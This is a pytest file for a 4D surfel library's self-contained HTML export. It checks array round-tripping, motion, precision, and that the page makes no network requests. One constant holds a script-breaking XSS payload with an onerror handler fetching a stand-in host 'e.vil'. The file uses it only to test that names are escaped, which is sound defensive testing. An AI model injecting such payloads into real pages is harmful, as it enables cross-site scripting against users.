"""The page: what is packed into it is the asset, and nothing in it can do more than show the asset."""

from __future__ import annotations

import base64
import gzip
import json
import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest
import torch

from fourdgen.geometry.transforms import quat_to_matrix
from fourdgen.playback.exports import export
from fourdgen.scene.formats import html
from fourdgen.scene.motion import SampledBones, Still
from fourdgen.scene.scene4d import Scene4D
from fourdgen.scene.showing import first_view
from fourdgen.scene.surfels import Surfels, rgb_from_sh
from tests.toy import toy_scene

EVIL = "</script><img src=x onerror=\"fetch('http://e.vil')\">{{script}}<!--<script>"


def unpacked(page: str) -> tuple[dict, dict[str, np.ndarray]]:
    """What the page's script reads: the description, and the arrays."""
    meta = json.loads(re.search(r'<script type="application/json" id="meta">(.*?)</script>', page)[1])
    payload = re.search(r'id="payload">(.*?)</script>', page)[1]
    blob = np.frombuffer(gzip.decompress(base64.b64decode(payload)), np.uint8)
    arrays, at = {}, 0
    for row in meta["arrays"]:
        planes = blob[at : at + row["length"] * row["planes"]].reshape(row["planes"], -1)
        raw = sum(plane.astype(np.float64) * 256**k for k, plane in enumerate(planes))
        arrays[row["name"]] = row["lo"] + raw * (row["hi"] - row["lo"]) / (256 ** row["planes"] - 1)
        at += planes.size
    assert at == len(blob)
    return meta, arrays


def restored(meta: dict, arrays: dict[str, np.ndarray]) -> Surfels:
    """Canonical surfels as the page has them."""
    names = [name for name in arrays if name not in ("real", "dual")]
    columns = {name: arrays[name].reshape(-1, meta["count"]).T.copy() for name in names}
    parts = {name: torch.from_numpy(values).float() for name, values in columns.items()}
    xyz = parts["quat"]
    return Surfels(
        means=parts["mean"], quats=torch.cat([(1 - (xyz**2).sum(1, keepdim=True)).sqrt(), xyz], 1),
        log_scales=parts["scale"], opacity=parts["opacity"][:, 0].logit(), confidence=parts["confidence"][:, 0],
        sh=((parts["color"] - 0.5) / html.SH_C0)[:, None],
        bone_ids=parts["bone"].round().int(), bone_weights=parts["weight"],
    )  # fmt: skip


def matched(page: Surfels, scene: Surfels) -> Surfels:
    """The scene's surfels in the page's order."""
    return scene[torch.cdist(page.means, scene.means).argmin(1)]


def test_what_is_packed_is_the_asset() -> None:
    scene = toy_scene()
    meta, arrays = unpacked(html.page_of(scene, "toy", "a"))
    page = restored(meta, arrays)
    truth = matched(page, scene.surfels)
    assert sorted(page.means[:, 0].tolist()) == pytest.approx(sorted(scene.surfels.means[:, 0].tolist()), abs=1e-4)
    assert torch.allclose(page.means, truth.means, atol=1e-4)
    assert torch.allclose(page.log_scales, truth.log_scales, atol=1e-4)
    assert torch.allclose(page.opacity.sigmoid(), truth.opacity.sigmoid(), atol=0.003)
    assert torch.allclose(rgb_from_sh(page.sh), rgb_from_sh(truth.sh), atol=0.006)
    assert torch.allclose(page.confidence, truth.confidence, atol=0.003)
    # The same ellipse: its covariance; a half turn about an axis of it makes no difference.
    covariances = []
    for surfels in (page, truth):
        axes = quat_to_matrix(surfels.quats)[:, :, :2] * surfels.log_scales.exp()[:, None]
        covariances.append(axes @ axes.transpose(1, 2))
    assert torch.allclose(covariances[0], covariances[1], atol=1e-3 * float(covariances[1].abs().max()))


def test_it_moves_as_the_asset_does() -> None:
    scene = toy_scene()
    meta, arrays = unpacked(html.page_of(scene, "toy", "b"))
    assert [clip["name"] for clip in meta["clips"]] == ["a", "b"] and meta["reference"] == 1
    counts = [len(clip["samples"]) for clip in meta["clips"]]
    poses = [
        torch.from_numpy(arrays[name].reshape(4, sum(counts), meta["bones"])[[3, 0, 1, 2]]).float()
        for name in ("real", "dual")
    ]
    samples = torch.cat(poses).permute(1, 2, 0).split(counts)
    seconds = {clip["name"]: torch.tensor(clip["samples"]) for clip in meta["clips"]}
    motion = SampledBones(seconds, dict(zip("ab", samples)), torch.zeros(meta["bones"], 3))
    page = restored(meta, arrays)
    truth = matched(page, scene.surfels)
    for clip, time in (("a", 0.13), ("a", 0.7), ("b", 0.29)):
        moved, wanted = motion.warp(page, clip, time), scene.motion.warp(truth, clip, time)
        assert float((moved.means - truth.means).abs().max()) > 0.05  # something moves
        assert torch.allclose(moved.means, wanted.means, atol=2e-3)


def test_far_strays_do_not_cost_precision() -> None:
    scene = toy_scene()
    means = scene.surfels.means.clone()
    means[0] = torch.tensor([900.0, -2.0, 5.0])
    strayed = replace(scene, surfels=replace(scene.surfels, means=means))
    meta, arrays = unpacked(html.page_of(strayed, "toy", "a"))
    page = restored(meta, arrays)
    assert torch.allclose(page.means, matched(page, strayed.surfels).means, atol=1e-4)


def test_turns_with_a_large_real_part_are_the_same_surfels() -> None:
    quats = torch.nn.functional.normalize(torch.randn(500, 4, generator=torch.Generator().manual_seed(0)), dim=1)
    near = html.nearest_turn(quats)
    assert float(near[:, 0].min()) >= 0.5 - 1e-6
    one, other = quat_to_matrix(quats), quat_to_matrix(near)
    # Each axis keeps its line; its sign may change.
    assert torch.allclose((one * other).sum(1).abs(), torch.ones(500, 3), atol=1e-5)


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.title, self._in_title = "", False

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_title = tag == "title"

    def handle_data(self, data: str) -> None:
        self.title += data if self._in_title else ""

    def handle_endtag(self, tag: str) -> None:
        self._in_title = False


def test_names_are_text_whatever_they_look_like() -> None:
    scene = toy_scene()
    assert isinstance(scene.motion, SampledBones)
    clips = {
        EVIL if name == "a" else name: replace(clip, name=EVIL if name == "a" else name)
        for name, clip in scene.clips.items()
    }
    motion = SampledBones(
        {EVIL if name == "a" else name: value for name, value in scene.motion.seconds.items()},
        {EVIL if name == "a" else name: value for name, value in scene.motion.dual_quats.items()}, scene.motion.centers,
    )  # fmt: skip
    evil = html.page_of(Scene4D(scene.surfels, motion, clips, EVIL), EVIL, EVIL)
    plain = html.page_of(scene, "toy", "a")
    one, other = Elements(), Elements()
    one.feed(evil)
    other.feed(plain)
    assert one.tags == other.tags
    assert one.title == f"{EVIL} · fourdgen"
    assert unpacked(evil)[0]["clips"][0]["name"] == EVIL


def test_it_asks_the_network_for_nothing() -> None:
    page = html.page_of(toy_scene(), "toy", "a")
    assert "http:" not in page and "https:" not in page and "//cdn" not in page
    assert "default-src 'none'" in page  # and the browser would not let it
    elements = Elements()
    elements.feed(page)
    assert [attrs["href"] for _, attrs in elements.tags if "href" in attrs] == ["data:,"]
    assert not [attrs for _, attrs in elements.tags if "src" in attrs]


def test_a_still_scene_has_no_bones_and_equal_scenes_give_equal_pages(tmp_path: Path) -> None:
    still = replace(toy_scene(), motion=Still())
    html.write(tmp_path / "one.html", still)
    html.write(tmp_path / "two.html", still, title="one")
    assert (tmp_path / "one.html").read_bytes() == (tmp_path / "two.html").read_bytes()
    meta, arrays = unpacked((tmp_path / "one.html").read_text())
    assert meta["bones"] == 0 and "real" not in arrays


def test_the_first_view_was_filmed_and_holds_the_subject() -> None:
    scene = toy_scene()
    view = first_view(scene, "a")  # the clip's cameras go from azimuth 0 to 200 degrees in 11 steps
    assert view["az"] == pytest.approx(2 * 200 / 11, abs=5)  # it looks at the subject's middle
    reach = view["dist"] * np.sin(np.radians(view["fov"] / 2))
    distance = (scene.surfels.means - torch.tensor(view["target"])).norm(dim=1)
    assert float((distance <= reach).float().mean()) > 0.98


def test_the_extension_chooses_it(tmp_path: Path) -> None:
    export(toy_scene(), tmp_path / "toy.html")
    assert (tmp_path / "toy.html").read_text().startswith("<!DOCTYPE html>")


@pytest.mark.parametrize(
    ("file", "title"),
    [("fox.html", "fox"), ("my_fox_2.html", "my fox 2"), ("scene.html", "4D asset a"), ("__.html", "4D asset")],
)
def test_a_page_is_called_by_what_says_something(file: str, title: str) -> None:
    assert html.title_of(Path(file), toy_scene()) == title
